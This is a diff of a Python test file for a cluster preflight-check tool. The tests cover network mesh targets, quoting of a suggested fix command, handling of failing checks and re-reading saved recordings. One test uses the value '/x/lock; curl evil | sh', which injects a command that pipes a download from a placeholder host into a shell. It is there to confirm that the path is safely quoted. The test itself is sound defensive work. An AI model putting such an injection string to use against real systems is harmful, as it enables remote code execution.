@@ -2,14 +2,13 @@
 
 from __future__ import annotations
 
-import json
 import shlex
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
-from tests.checks.recorded import HELLO
+from tests.checks.recorded import HELLO, first_questions
 from tests.hostile.scripted import ScriptedNode, ScriptedTransport
 
 from dslaunch.cluster.load import parse_cluster
@@ -24,7 +23,8 @@ from dslaunch.preflight.check import (
     UnansweredError,
 )
 from dslaunch.preflight.checks import built_in, net_bandwidth, net_mesh
-from dslaunch.preflight.flow import FAULT, RunningFlow, said
+from dslaunch.preflight.checks._machine import address
+from dslaunch.preflight.flow import FAULT, RunningFlow, findings_of, judged
 from dslaunch.preflight.judge import REACHED, judge
 from dslaunch.preflight.recording import NodeRecording, Recording, read
 from dslaunch.preflight.runner import Survey
@@ -43,7 +43,7 @@ def interfaces(address: str) -> Answer:
 
 def mesh(**of_n2: Answer) -> Nodes:
     """Three nodes that hold a port each; the second says something else."""
-    asked = net_mesh.CHECK.ask(SCOPE)
+    asked = net_mesh.ask(SCOPE)
     nodes = {}
     for at, node in enumerate(SCOPE.nodes, 1):
         own: dict[str, Answer] = {
@@ -62,65 +62,66 @@ def test_a_node_that_holds_no_port_is_not_dialed_by_the_others() -> None:
     nodes = mesh(listen={"value": {"port": None}})
     targets = {host: q.argument["targets"] for host, q in net_mesh.calls(nodes).items()}
     assert targets == {"n1": {"n3": ["10.0.0.3", 4003]}, "n3": {"n1": ["10.0.0.1", 4001]}}
-    assert net_bandwidth.CHECK.flow is not None
-    flow = RunningFlow(net_bandwidth.CHECK.flow(nodes))
+    flow = RunningFlow(net_bandwidth.CHECK.flow(SCOPE))
+    flow.answered(nodes)
     while flow.pending is not None:
         for asked in flow.pending.asked.values():
             for question in asked.values():
-                assert json.loads(question.argument["argv"][-1])["target"][1] in (4001, 4003)
+                assert question.argument["target"][1] in (4001, 4003)
         flow.answered(nodes)
 
 
 @pytest.mark.parametrize(
-    "address", ["127.0.0.1", "::1", "0.0.0.0", "::", "224.0.0.1", "::ffff:127.0.0.1"]
+    "own", ["127.0.0.1", "::1", "0.0.0.0", "::", "224.0.0.1", "::ffff:127.0.0.1"]
 )
-def test_a_node_cannot_make_others_dial_themselves(address: str) -> None:
-    nodes = mesh(interfaces=interfaces(address))
-    assert net_mesh.address(nodes["n2"]) is None
+def test_a_node_cannot_make_others_dial_themselves(own: str) -> None:
+    nodes = mesh(interfaces=interfaces(own))
+    assert address(nodes["n2"]) is None
     assert set(net_mesh.calls(nodes)) == {"n1", "n3"}
 
 
 def test_a_command_to_copy_holds_a_nodes_path_as_one_word() -> None:
     check = CHECKS["sw.locks"]
     path = "/x/lock; curl evil | sh"
-    asked = check.ask(SCOPE)
+    asked = first_questions(check, SCOPE)["n1"]
     (question,) = (q for q in asked.values() if q.kind == "list")
     locks: Answer = {"value": [{"path": path, "size": 0, "age": 1e6}]}
     node = SCOPE.nodes[0]
-    a = NodeAnswers(node, SCOPE, asked, {question.key: locks}, HELLO, limits=check.limits)
-    assert check.flow is not None
-    (verdict,) = said(check.flow, {node.host: a})
+    a = NodeAnswers(node, SCOPE, {}, {question.key: locks}, HELLO)
+    (verdict,) = findings_of("sw.locks", check, SCOPE, {node.host: a})
     assert shlex.split(verdict.fix) == ["rm", path]
 
 
 def facts(answers: dict[str, Answer]) -> Recording:
     nodes = {n.host: NodeRecording(HELLO, answers, (0.0, 0.0), 0.1) for n in SCOPE.nodes}
-    return Recording(SCOPE, 1.0, nodes, {}, cluster=TEXT, file="c.yaml")
+    return Recording(SCOPE, 1.0, nodes, {})
 
 
 def bad_check() -> Check:
     def judge_one(a: NodeAnswers) -> list[Any]:
-        raise KeyError(a.host)
+        raise KeyError("a value")
 
-    return replace(CHECKS["shell.umask"], judge=judge_one, compare=None)
+    return replace(CHECKS["shell.umask"], flow=judged(judge_one))
 
 
 def test_a_check_that_raises_is_unknown_and_names_its_exception() -> None:
     report = judge(facts({}), {"a.bad": bad_check(), "shell.umask": CHECKS["shell.umask"]})
     found = {f.check: (f.level, f.found) for f in report.findings if f.check != REACHED}
-    assert found["a.bad"] == ("unknown", f"{FAULT}: KeyError")
+    level, text = found["a.bad"]
+    assert level == "unknown"
+    assert text.startswith(f"{FAULT}: KeyError: 'a value' ({__name__}:")
     assert found["shell.umask"][0] == "pass"
 
 
 def test_a_check_that_cannot_say_what_follows_is_noted() -> None:
-    def flow(nodes: Nodes) -> Flow:
-        nodes = yield Round({})
+    def flow(scope: Scope) -> Flow:
+        nodes = yield Round.of_all(scope, {})
         raise UnansweredError(next(iter(nodes)))
 
     honest = {"hello": HELLO, "answers": {}, "clock": None}
-    way = ScriptedTransport({node.host: ScriptedNode(honest, honest) for node in SCOPE.nodes})
+    transport = ScriptedTransport({node.host: ScriptedNode(honest, honest) for node in SCOPE.nodes})
     check = replace(CHECKS["shell.umask"], flow=flow)
-    survey = Survey(SCOPE, {"a.bad": check}, lambda *_: None, way)
+    survey = Survey(SCOPE, {"a.bad": check}, lambda *_: None, transport)
     assert set(survey.run()) == {"n1", "n2", "n3"}
     assert survey.faults == ["UnansweredError"]
 
@@ -130,10 +131,10 @@ def test_an_invalid_answer_of_a_recording_is_unknown_when_it_is_judged_again(
 ) -> None:
     question = Question("path", "/dev/shm", 5)
     file = tmp_path / "facts.json"
-    file.write_text(facts({question.key: {"value": {"size": "large"}}}).to_json(), "utf-8")
+    file.write_text(facts({question.key: {"value": {"size": "large"}}}).as_json(), "utf-8")
     again = read(file)
     report = judge(again, {"shm.size": CHECKS["shm.size"]})
-    (tmp_path / "again.json").write_text(again.to_json(), "utf-8")
+    (tmp_path / "again.json").write_text(again.as_json(), "utf-8")
     assert read(tmp_path / "again.json") == again
     levels = {(f.check, f.level): f.hosts for f in report.findings}
     assert levels[REACHED, "unknown"] == ("n1", "n2", "n3")
